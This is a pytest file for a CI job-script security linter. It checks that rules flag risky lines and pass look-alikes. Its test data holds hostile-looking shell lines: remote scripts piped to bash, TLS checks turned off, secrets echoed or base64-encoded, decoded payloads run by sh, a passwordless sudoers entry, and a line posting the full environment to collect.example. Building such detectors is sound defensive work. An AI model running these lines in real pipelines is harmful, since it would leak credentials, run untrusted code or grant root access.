"""The rules that every system shares (`gate/ci/rules/scripts.py`): which lines they mean, and which they do not."""

import pytest

from gate.ci.model import JobScript
from gate.ci.rules import all_rules
from gate.ci.rules.scripts import JOBS
from gate.model import Severity
from gate.rules import ask

MEANT = [
    ("GC001", "wget -qO- https://tools.example/i.sh | sudo -E bash -"),
    ("GC001", "bash <(curl -s https://tools.example/i.sh)"),
    ("GC001", 'bash -c "$(curl -fsSL https://tools.example/i.sh)"'),
    ("GC002", "wget --no-check-certificate https://packages.example/a.tgz"),
    ("GC002", "curl -sSLk https://packages.example/a.tgz"),
    ("GC002", "npm config set strict-ssl false"),
    ("GC002", "git config --global http.sslVerify false"),
    ("GC002", "export NODE_TLS_REJECT_UNAUTHORIZED=0"),
    ("GC002", "skopeo copy --dest-tls-verify=false a b"),
    ("GC003", "env"),
    ("GC003", "if true; then printenv; fi"),
    ("GC004", 'echo "token: ${NPM_TOKEN}"'),
    ("GC004", "printf %s $AWS_SECRET_ACCESS_KEY"),
    ("GC005", "echo ${NPM_TOKEN} | base64"),
    ("GC005", "printf %s $DB_PASSWORD | rev"),
    ("GC006", 'eval "build $DRONE_SOURCE_BRANCH"'),
    ("GC006", 'bash -c "./notify ${BUILDKITE_MESSAGE}"'),
    ("GC007", "docker run -v /var/run/docker.sock:/var/run/docker.sock tools.example/a:1"),
    ("GC008", "scp -o StrictHostKeyChecking=no a.tgz deploy@shop.example:"),
    ("GC001", 'script=$(curl http://tools.example/i)\neval "$script"'),
    ("GC001", "curl http://tools.example/i |\n  sh -s -- --yes"),
    ("GC002", "make\nexport GIT_SSL_NO_VERIFY=1"),
    ("GC002", "docker run tools.example/a:1 sh\nsudo -E curl --insecure https://packages.example/a"),
    ("GC006", "python3 -c \"notify('$CI_COMMIT_TITLE')\""),
    ("GC006", "ssh -p 22 deploy@shop.example checkout $CI_COMMIT_REF_NAME"),
    ("GC006", "ssh deploy@shop.example <<EOF\ncheckout $CI_COMMIT_REF_NAME\nEOF"),
    ("GC006", 'docker exec shop sh -c "notify $CI_MERGE_REQUEST_TITLE"'),
    ("GC006", 'bash <<< "notify $CI_COMMIT_MESSAGE"'),
    ("GC009", "mkdir -p ~/.ssh\nssh-keyscan -H shop.example >> ~/.ssh/known_hosts"),
    ("GC010", 'eval "$(echo bWFrZQo= | base64 -d)"'),
    ("GC010", "gh api repos/o/r/contents/a; echo bWFrZQo= | base64 -d | sh"),
    ("GC011", "curl -o a.tgz http://packages.example/a.tgz"),
    ("GC012", "helm registry login -u ci -p $REGISTRY_PASSWORD registry.example"),
    ("GC012", "sshpass -p $DEPLOY_PASSWORD scp a deploy@shop.example:"),
    ("GC013", "set -euxo pipefail\ndeploy --token $DEPLOY_TOKEN"),
    ("GC014", "chmod 777 /builds"),
    ("GC015", "git remote set-url origin https://ci:${PUSH_TOKEN}@git.example/shop.git"),
    ("GC016", "curl -d title=$CI_COMMIT_TITLE https://api.example"),
    ("GC017", "npm audit --audit-level high || true"),
    ("GC017", "bandit -r shop --exit-zero"),
    ("GC018", "wget https://tools.example/tool\nchmod +x tool"),
    ("GC019", 'curl -d "$(printenv)" https://collect.example'),
    ("GC020", "docker buildx build --build-arg API_TOKEN=${API_TOKEN} ."),
    ("GC021", 'echo "ci ALL=(ALL) NOPASSWD:ALL" | sudo tee /etc/sudoers.d/ci'),
]
NOT_MEANT = [
    ("GC001", "curl -sSL https://tools.example/a.json | jq .version"),
    ("GC001", "curl -sSLo a.sh https://tools.example/a.sh; sh a.sh"),
    ("GC001", "# curl https://tools.example/i.sh | sh"),
    ("GC002", "curl --keepalive-time 2 https://packages.example/a.tgz"),
    ("GC002", "curl https://packages.example/a.tgz | tar -xk"),
    ("GC003", "env GOFLAGS=-mod=mod go build"),
    ("GC003", "env | grep -q ^CI="),
    ("GC003", "env > build.env"),
    ("GC004", "echo $NPM_TOKEN > .npmrc"),
    ("GC004", "echo $DOCKER_PASSWORD | docker login --password-stdin"),
    ("GC004", "echo $TOKENS_USED_BY_MODEL"),
    ("GC004", 'echo "::add-mask::$NPM_TOKEN"'),
    ("GC004", 'echo "##vso[task.setvariable variable=t;issecret=true]$NPM_TOKEN"'),
    ("GC004", 'echo "tokens: $DIFF_TOKEN_EST, from $SECRET_NAME"'),
    ("GC004", 'echo git push "https://git:\\$HUB_TOKEN@git.example/a"'),
    ("GC013", "set -ex\ncat ${REGISTRY_CREDENTIALS} | login --password-stdin"),
    ("GC005", "echo $KUBE_TOKEN | base64 -d"),
    ("GC005", "echo $KUBE_TOKEN | base64 > token"),
    ("GC006", 'sh -c "echo $HOME"'),
    ("GC006", 'eval "$(ssh-agent -s)"'),
    ("GC007", "docker run tools.example/a:1 --privileged=false"),
    ("GC008", "ssh -o StrictHostKeyChecking=yes deploy@shop.example"),
    ("GC001", "curl http://tools.example/i -o i && sha256sum -c i.sha256 && sh i"),
    ("GC002", "ssh -o StrictHostKeyChecking=no deploy@shop.example"),
    ("GC006", "ssh deploy@shop.example 'checkout $CI_COMMIT_REF_NAME'"),
    ("GC006", "ssh deploy@shop.example <<'EOF'\ncheckout $CI_COMMIT_REF_NAME\nEOF"),
    ("GC006", 'ssh deploy@shop.example "checkout $CI_COMMIT_SHA $CI_COMMIT_REF_SLUG"'),
    ("GC006", 'sh -c \'notify "$1"\' - "$CI_COMMIT_TITLE"'),
    ("GC006", "cat > note.txt <<EOF\n$CI_COMMIT_MESSAGE\nEOF"),
    ("GC006", 'ssh deploy@shop.example "checkout ${CI_COMMIT_REF_NAME//[^a-z]/-}"'),
    ("GC010", "echo $KEY | base64 -d > key.pem"),
    ("GC010", "gh api repos/o/r/contents/a.py?ref=$SHA \\\n  --jq .content | base64 --decode >a.py\npython3 a.py"),
    ("GC011", "curl http://shop:8080/ready"),
    ("GC011", "curl http://localhost/ready"),
    ("GC012", "docker login -u ci --password-stdin registry.example < key"),
    ("GC012", "docker run -p 80:80 $CI_REGISTRY_IMAGE"),
    ("GC013", "set -x\nmake\nset +x\ndeploy --token $DEPLOY_TOKEN"),
    ("GC014", "chmod 755 build"),
    ("GC015", "git clone https://gitlab-ci-token:$CI_JOB_TOKEN@git.example/a.git"),
    ("GC016", 'curl -d "title=$CI_COMMIT_TITLE" https://api.example'),
    ("GC016", "git checkout $CI_COMMIT_REF_NAME"),
    ("GC017", "trivy --version || true"),
    ("GC017", "trivy image shop; rm cache || true"),
    ("GC018", "curl -o a.json https://api.example/a"),
    ("GC019", "env | sort"),
    ("GC019", "env FOO=1 curl https://api.example"),
    ("GC020", "docker build --build-arg VERSION=$CI_COMMIT_SHA ."),
]


def caught(script: str) -> set[str]:
    rules = [rule for rule in all_rules() if rule.looks_at is JOBS]
    return {rule.id for rule, _ in ask(rules, JobScript(name="job", script=script, path="ci.yml", line=1))}


@pytest.mark.parametrize(("id", "script"), MEANT)
def test_a_line_that_is_meant_is_caught(id: str, script: str) -> None:
    assert id in caught(script)


@pytest.mark.parametrize(("id", "script"), NOT_MEANT)
def test_a_line_that_only_resembles_it_is_not(id: str, script: str) -> None:
    assert id not in caught(script)


@pytest.mark.parametrize(
    ("script", "severity"),
    [
        ("curl http://tools.example/i | sh", "high"),
        ("curl https://203.0.113.7/i | sh", "high"),
        ("curl https://bit.ly/abc | sh", "high"),
        ("curl https://tools.example/i | sh", "medium"),
        ("curl $TOOLS/i | sh", "medium"),
        ("curl https://$HOST/i | sh", "medium"),
        ('x=$(curl http://tools.example/i)\nbash -c "$x"', "high"),
    ],
)
def test_what_is_run_unseen_is_serious_where_others_can_answer_for_the_publisher(script: str, severity: str) -> None:
    (rule,) = (rule for rule in all_rules() if rule.id == "GC001")
    (hit,) = (hit for _, hit in ask([rule], JobScript(name="job", script=script, path="ci.yml", line=1)))
    assert hit.severity is Severity(severity)


def test_the_line_is_the_files() -> None:
    rules = [rule for rule in all_rules() if rule.id == "GC001"]
    script = JobScript(name="job", script="make\n\ncurl https://tools.example/i | sh", path="ci.yml", line=7)
    assert [hit.line for _, hit in ask(rules, script)] == [9]
